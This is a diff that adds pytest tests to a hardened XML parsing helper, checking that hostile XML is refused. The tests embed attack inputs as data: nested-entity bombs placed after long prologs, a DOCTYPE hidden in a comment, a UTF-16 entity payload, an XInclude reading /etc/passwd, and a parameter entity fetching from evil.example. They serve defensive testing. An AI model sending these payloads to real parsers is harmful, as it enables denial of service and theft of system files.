@@ -58,6 +58,37 @@ def test_parameter_entity_refused():
         parse_xml(b'<!DOCTYPE f [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><f/>')
 
 
+def test_entity_bomb_past_a_long_prolog_refused_before_parsing():
+    ents = '<!ENTITY a0 "xxxxxxxxxx">' + "".join(
+        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
+    )
+    bomb = f"<!DOCTYPE l [{ents}]><l>&a9;</l>".encode()
+    for prolog in (b"<!--" + b"x" * 70_000 + b"-->", b"<?pi " + b"y" * 70_000 + b"?>\n"):
+        with pytest.raises(XMLRefused):  # not lxml's own syntax error: the same refusal as up front
+            parse_xml(prolog + bomb)
+
+
+def test_a_doctype_inside_a_comment_does_not_hide_the_real_one():
+    with pytest.raises(XMLRefused):
+        parse_xml(b'<!-- <!DOCTYPE x> ]> --><!DOCTYPE l [<!-- > --><!ENTITY a "x">]><l>&a;</l>')
+
+
+def test_entities_refused_whatever_the_encoding():
+    doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE l [<!ENTITY a "x">]><l>&a;</l>'
+    with pytest.raises(XMLRefused):
+        parse_xml(doc.encode("utf-16"))
+
+
+def test_internal_subset_without_entities_parses():
+    assert parse_xml(b"\xef\xbb\xbf<!DOCTYPE a [<!ELEMENT a ANY>]>\n<a>ok</a>").text == "ok"
+
+
+def test_xinclude_is_not_processed():
+    doc = b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></a>'
+    root = parse_xml(doc)
+    assert len(root) == 1 and "root:" not in "".join(root.itertext())
+
+
 def test_external_dtd_reference_is_not_loaded():
     doc = b'<?xml version="1.0"?>\n<!DOCTYPE eSearchResult PUBLIC "-//NLM//DTD esearch 20060628//EN" "https://eutils.ncbi.nlm.nih.gov/eutils/dtd/20060628/esearch.dtd">\n<eSearchResult><Count>1</Count></eSearchResult>'
     assert parse_xml(doc).findtext("Count") == "1"
